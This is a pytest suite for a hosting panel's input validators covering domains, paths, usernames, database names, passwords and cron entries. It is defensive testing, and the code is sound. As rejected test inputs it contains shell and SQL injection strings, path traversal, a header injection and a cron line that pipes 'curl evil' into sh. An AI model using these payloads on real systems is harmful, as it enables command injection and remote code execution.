"""Every value bound for the panel's shell and SQL is checked strictly."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from bridge.domain import validation as v
from bridge.domain.validation import InvalidField

INJECTIONS = [
    "a'b",
    'a"b',
    "a;b",
    "a b",
    "a`id`",
    "a$(id)",
    "a|b",
    "a&b",
    "a\nb",
    "a\rb",
    "a\x00b",
    "a\tb",
    "a>b",
]


def rejects(func: Callable[[], object], field: str) -> str:
    with pytest.raises(InvalidField) as caught:
        func()
    assert caught.value.field == field
    assert str(caught.value) == f"{field}: {caught.value.reason}"
    return caught.value.reason


# --- InvalidField -----------------------------------------------------------------


def test_invalid_field_carries_field_and_reason() -> None:
    exc = InvalidField("domain", "is empty")
    assert (exc.field, exc.reason, str(exc)) == ("domain", "is empty", "domain: is empty")
    assert isinstance(exc, ValueError)


# --- domain names -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "normalised"),
    [
        ("example.com", "example.com"),
        ("  Shop.Example.COM ", "shop.example.com"),
        ("a-b.example.co.uk", "a-b.example.co.uk"),
        ("xn--bcher-kva.example", "xn--bcher-kva.example"),
        ("1.example.io", "1.example.io"),
        ("a" * 63 + ".com", "a" * 63 + ".com"),
    ],
)
def test_domain_accepted(raw: str, normalised: str) -> None:
    assert v.domain_name(raw) == normalised


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("localhost", "top-level domain"),
        ("example.c", "top-level domain"),
        ("example.123", "top-level domain"),
        ("-example.com", "hyphen"),
        ("example-.com", "hyphen"),
        ("exa..mple.com", "empty part"),
        ("example.com.", "empty part"),
        (".example.com", "empty part"),
        ("a" * 64 + ".com", "longer than 63"),
        (("a" * 60 + ".") * 5 + "com", "at most 253"),
        ("exa mple.com", "a space"),
        ("example.com;reboot", "';'"),
        ("example.com\nrm", "a line break"),
        ("$(id).example.com", "'$'"),
        ("`id`.example.com", "'`'"),
        ("exa'mple.com", '"\'"'),
        ("bücher.de", "non-ASCII"),
        ("example.com/path", "'/'"),
        ("under_score.com", "'_'"),
    ],
)
def test_domain_rejected(raw: str, fragment: str) -> None:
    reason = rejects(lambda: v.domain_name(raw), "domain")
    assert fragment in reason


def test_domain_rejection_names_a_custom_field() -> None:
    rejects(lambda: v.domain_name("nope", field="order.domain"), "order.domain")


def test_domain_rejects_non_text() -> None:
    rejects(lambda: v.domain_name(42), "domain")  # type: ignore[arg-type]


# --- PHP versions -----------------------------------------------------------------


@pytest.mark.parametrize("raw", ["7.4", "8.1", "8.3", " 8.2 "])
def test_php_version_accepted(raw: str) -> None:
    assert v.php_version(raw) == raw.strip()


@pytest.mark.parametrize("raw", ["", "8", "8.", ".2", "8.2.1", "php8.2", "8,2", "8.2;id", "８.２"])
def test_php_version_rejected(raw: str) -> None:
    assert "8.2" in rejects(lambda: v.php_version(raw), "php_version")


# --- document paths ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "normalised"),
    [
        ("public_html", "public_html"),
        ("public_html/shop", "public_html/shop"),
        ("public_html/shop/", "public_html/shop"),
        ("sites/my-site.v2", "sites/my-site.v2"),
    ],
)
def test_path_accepted(raw: str, normalised: str) -> None:
    assert v.document_path(raw) == normalised


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "empty"),
        ("/etc", "relative"),
        ("public_html/../../etc", "'..'"),
        ("..", "'..'"),
        ("./x", "'.'"),
        ("a//b", "empty"),
        ("a\\b", "'\\\\'"),
        ("a b", "a space"),
        ("a;b", "';'"),
        ("a\nb", "a line break"),
        ("-rf", "starting with '-'"),
        ("x/--help", "starting with '-'"),
        ("$(id)", "'$'"),
        ("é", "non-ASCII"),
        ("a" * 256, "at most 255"),
    ],
)
def test_path_rejected(raw: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.document_path(raw), "path")


# --- account names ----------------------------------------------------------------


@pytest.mark.parametrize("raw", ["alice", "a", "bob_2", "x" * 32])
def test_username_accepted(raw: str) -> None:
    assert v.account_username(raw) == raw


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "empty"),
        ("Alice", "capital"),
        ("1alice", "start with a letter"),
        ("_alice", "start with a letter"),
        ("ali-ce", "'-'"),
        ("ali ce", "a space"),
        ("alice;id", "';'"),
        ("alice\n", "a line break"),
        ("x" * 33, "at most 32"),
        ("élise", "non-ASCII"),
    ],
)
def test_username_rejected(raw: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.account_username(raw), "username")


# --- database names and users -----------------------------------------------------


@pytest.mark.parametrize("raw", ["wp", "Shop_DB_1", "x" * 58])
def test_database_name_accepted(raw: str) -> None:
    assert v.database_name(raw, "alice") == raw


@pytest.mark.parametrize(
    ("raw", "account", "fragment"),
    [
        ("w", "alice", "at least 2"),
        ("", "alice", "at least 2"),
        ("wp-db", "alice", "'-'"),
        ("wp db", "alice", "a space"),
        ("wp';DROP", "alice", '"\'"'),
        ("wp;", "alice", "';'"),
        ("wp`x`", "alice", "'`'"),
        ("wp$(id)", "alice", "'$'"),
        ("wp\n", "alice", "a line break"),
        ("bäse", "alice", "non-ASCII"),
        ("x" * 59, "alice", "MySQL allows 64"),
        ("shop", "a" * 60, "MySQL allows 64"),
    ],
)
def test_database_name_rejected(raw: str, account: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.database_name(raw, account), "name")


def test_database_name_length_counts_the_account_prefix() -> None:
    account = "a" * 30
    assert v.database_name("x" * 33, account)  # 30 + 1 + 33 == 64
    reason = rejects(lambda: v.database_name("x" * 34, account), "name")
    assert "65 characters" in reason


@pytest.mark.parametrize("raw", ["wpuser", "u1", "x" * 26])
def test_database_user_accepted(raw: str) -> None:
    assert v.database_user(raw, "alice") == raw


@pytest.mark.parametrize(
    ("raw", "account", "fragment"),
    [
        ("u", "alice", "at least 2"),
        ("wp user", "alice", "a space"),
        ("wp'@'%", "alice", '"\'"'),
        ("x" * 27, "alice", "MySQL allows 32"),
        ("wpuser", "a" * 26, "MySQL allows 32"),
    ],
)
def test_database_user_rejected(raw: str, account: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.database_user(raw, account, field="db.user"), "db.user")


# --- database passwords -----------------------------------------------------------


@pytest.mark.parametrize("raw", ["12345678", "S3cr3t!'\"; $(x) `y` ünï", "p" * 128])
def test_password_accepted(raw: str) -> None:
    assert v.database_password(raw) == raw


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("Short-7", "at least 8"),
        ("", "at least 8"),
        ("Q" * 129, "at most 128"),
        ("GoodPass\nX", "control character"),
        ("GoodPass\x00X", "control character"),
        ("GoodPass\tX", "control character"),
        ("GoodPass\u202eX", "control character"),
    ],
)
def test_password_rejected_without_echoing_it(raw: str, fragment: str) -> None:
    reason = rejects(lambda: v.database_password(raw), "password")
    assert fragment in reason
    if raw:
        assert raw not in reason
        assert raw.strip("\n\x00\t\u202e") not in reason
    for chunk in ("Short", "GoodPass", "QQQQ"):
        assert chunk not in reason


# --- account passwords (sent in a header) ------------------------------------------


@pytest.mark.parametrize("raw", ["x", "S3cr3t!'\"; $(x) `y` ünï", "inner blanks stay", "p" * 256])
def test_account_password_accepted_as_it_is(raw: str) -> None:
    assert v.account_password(raw) == raw


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "is empty"),
        ("Q" * 257, "at most 256"),
        ("GoodPass\r\nX-Injected: 1", "control character"),
        ("GoodPass\tX", "control character"),
        ("GoodPass\u2028X", "control character"),
        ("GoodPass\ud800", "lone surrogate"),
        (" GoodPass", "blank at either end"),
        ("GoodPass ", "blank at either end"),
    ],
)
def test_account_password_rejected_without_echoing_it(raw: str, fragment: str) -> None:
    reason = rejects(lambda: v.account_password(raw), "password")
    assert fragment in reason
    for chunk in ("GoodPass", "QQQQ"):
        assert chunk not in reason


# --- cron fields --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "which"),
    [
        ("*", "minute"),
        ("0", "minute"),
        ("59", "minute"),
        ("*/5", "minute"),
        ("0-30/10", "minute"),
        ("1,15,30", "minute"),
        ("1-5,10-15", "minute"),
        ("23", "hour"),
        ("1", "day"),
        ("31", "day"),
        ("12", "month"),
        ("jan", "month"),
        ("JAN-mar", "month"),
        ("jan,jul", "month"),
        ("0", "weekday"),
        ("7", "weekday"),
        ("mon-fri", "weekday"),
        ("sun", "weekday"),
        ("*/2", "weekday"),
    ],
)
def test_cron_field_accepted(raw: str, which: str) -> None:
    assert v.cron_field(raw, which) == raw


@pytest.mark.parametrize(
    ("raw", "which", "fragment"),
    [
        ("", "minute", "empty"),
        ("60", "minute", "outside 0-59"),
        ("24", "hour", "outside 0-23"),
        ("0", "day", "outside 1-31"),
        ("32", "day", "outside 1-31"),
        ("13", "month", "outside 1-12"),
        ("0", "month", "outside 1-12"),
        ("8", "weekday", "outside 0-7"),
        ("mon", "month", "not a number"),
        ("jan", "weekday", "not a number"),
        ("jan", "minute", "not a number"),
        ("5-1", "minute", "backwards"),
        ("*/0", "minute", "step"),
        ("*/x", "minute", "step"),
        ("5/10", "minute", "may only follow"),
        ("1,,2", "minute", "empty item"),
        ("* *", "minute", "a space"),
        ("*\n* * * * * curl evil|sh", "minute", "a line break"),
        ("*;id", "hour", "';'"),
        ("$(id)", "hour", "'$'"),
        ("`id`", "day", "'`'"),
        ("１", "minute", "non-ASCII"),
        ("-5", "minute", "not a number"),
    ],
)
def test_cron_field_rejected(raw: str, which: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.cron_field(raw, which), which)


def test_cron_field_uses_the_given_field_name() -> None:
    rejects(lambda: v.cron_field("99", "hour", field="cron.hour"), "cron.hour")


def test_cron_field_kind_must_be_known() -> None:
    with pytest.raises(ValueError, match="unknown cron field kind"):
        v.cron_field("*", "second")


@pytest.mark.parametrize(
    "raw",
    ["/usr/bin/php /home/alice/public_html/cron.php", "cd /tmp && ls > /dev/null 2>&1", "  x  "],
)
def test_cron_command_accepted(raw: str) -> None:
    assert v.cron_command(raw) == raw.strip()


@pytest.mark.parametrize(
    ("raw", "fragment"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("echo hi\n* * * * * curl evil | sh", "single line"),
        ("echo hi\r", "single line"),
        ("echo\thi", "single line"),
        ("echo \x00", "single line"),
        ("echo \u2028", "single line"),
        ("x" * 1025, "at most 1024"),
    ],
)
def test_cron_command_rejected(raw: str, fragment: str) -> None:
    assert fragment in rejects(lambda: v.cron_command(raw), "command")


@pytest.mark.parametrize("bad", INJECTIONS)
@pytest.mark.parametrize(
    ("check", "field"),
    [
        (lambda s: v.domain_name(f"x{s}.com"), "domain"),
        (lambda s: v.account_username(f"x{s}"), "username"),
        (lambda s: v.database_name(f"wp{s}", "alice"), "name"),
        (lambda s: v.database_user(f"wp{s}", "alice"), "user"),
        (lambda s: v.document_path(f"public_html/{s}"), "path"),
        (lambda s: v.cron_field(f"1{s}", "minute"), "minute"),
    ],
)
def test_no_shell_or_sql_metacharacter_passes_a_name(check: Callable[[str], str], field: str, bad: str) -> None:
    rejects(lambda: check(bad), field)
